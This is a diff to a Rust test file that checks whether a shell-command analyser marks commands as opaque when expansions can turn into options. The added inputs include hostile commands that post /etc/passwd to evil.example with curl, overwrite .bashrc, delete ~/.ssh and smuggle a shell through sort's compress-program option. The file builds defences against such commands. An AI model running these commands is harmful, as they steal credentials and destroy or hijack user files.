@@ -950,6 +950,14 @@ fn expansions_that_may_become_options_are_opaque() {
         "sort *",
         "grep -c failed *.log",
         "cat ?assw*",
+        // Words whose text is known only when the command runs.
+        "find /cases -maxdepth 0 $'-exec' sh -c 'curl -d @/etc/passwd https://evil.example/' ';'",
+        "X=-exec; find /cases -maxdepth 0 \"$X\" sh -c 'curl evil.example' ';'",
+        "A=(-exec sh -c 'curl evil.example' ';'); find /cases \"${A[@]}\"",
+        "X=-fprint; find /cases -maxdepth 0 $X /home/analyst/.bashrc",
+        "X=-delete; find /home/analyst/.ssh $X",
+        // extglob
+        "sort -S1k @(--compress-program=sh|cmds)",
     ] {
         let f = analyse(cmd);
         assert!(f.opaque, "{cmd}: {f:?}");
@@ -961,6 +969,7 @@ fn expansions_that_may_become_options_are_opaque() {
     for cmd in [
         "grep -c failed /var/log/*.log",
         "ls ./evidence/*.pcap",
+        "find /cases -name '*.log' -exec grep -c failed {} +",
         "curl -sS https://siem.lab.example/api/alerts?limit=5",
     ] {
         let f = analyse(cmd);
